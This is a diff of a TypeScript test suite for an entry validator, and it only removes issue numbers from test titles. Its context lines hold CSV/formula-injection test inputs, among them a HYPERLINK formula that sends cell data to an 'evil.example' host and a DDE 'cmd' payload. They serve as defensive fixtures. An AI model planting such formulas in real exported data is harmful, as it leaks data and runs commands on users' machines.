@@ -125,7 +125,7 @@ describe('validateEntry', () => {
   });
 });
 
-describe('validateEntry: names a spreadsheet would run as formulas (#12.1)', () => {
+describe('validateEntry: names a spreadsheet would run as formulas', () => {
   test.each([
     ['title', '=HYPERLINK("https://evil.example/?d="&A2,"Click me")'],
     ['title', "+cmd|' /C calc'!A0"],
@@ -154,7 +154,7 @@ describe('validateEntry: names a spreadsheet would run as formulas (#12.1)', () 
   });
 });
 
-describe('validateEntry: control characters (#12.2)', () => {
+describe('validateEntry: control characters', () => {
   const BEL = '\u0007';
   test.each([
     ['title', `Alarm${BEL} Bell`, 'U+0007 (bell) at character 6'],
@@ -200,7 +200,7 @@ describe('validateEntry: control characters (#12.2)', () => {
   });
 });
 
-describe('validateEntry: the review date (#12.4)', () => {
+describe('validateEntry: the review date', () => {
   const reviewed = (value: unknown) => problemsOf((fm) => (fm['reviewed'] = value)).filter((p) => p.field === 'reviewed');
   const today = new Date().toISOString().slice(0, 10);
   const inDays = (n: number) => new Date(Date.now() + n * 86_400_000).toISOString().slice(0, 10);
@@ -242,7 +242,7 @@ describe('validateEntry: the review date (#12.4)', () => {
   });
 });
 
-describe('validateEntry: FAQ anchors (#12.6)', () => {
+describe('validateEntry: FAQ anchors', () => {
   const withQuestions = (...questions: string[]) =>
     problemsOf((fm) => {
       const faq = fm['faq'] as { question: string }[];
@@ -276,7 +276,7 @@ describe('validateEntry: FAQ anchors (#12.6)', () => {
   });
 });
 
-describe('validateEntry: sizes (#12.8)', () => {
+describe('validateEntry: sizes', () => {
   const long = (n: number) => 'word '.repeat(Math.ceil(n / 5)).slice(0, n).trim() + '.';
   test.each<[string, (fm: Frontmatter) => void, Partial<Problem>]>([
     ['a one-million-word example', (fm) => ((fm['examples'] as { body: string }[])[0]!.body = 'word '.repeat(1_000_000)), { field: 'examples[0].body', expected: 'at most 1500 characters', found: '4999999 characters' }],
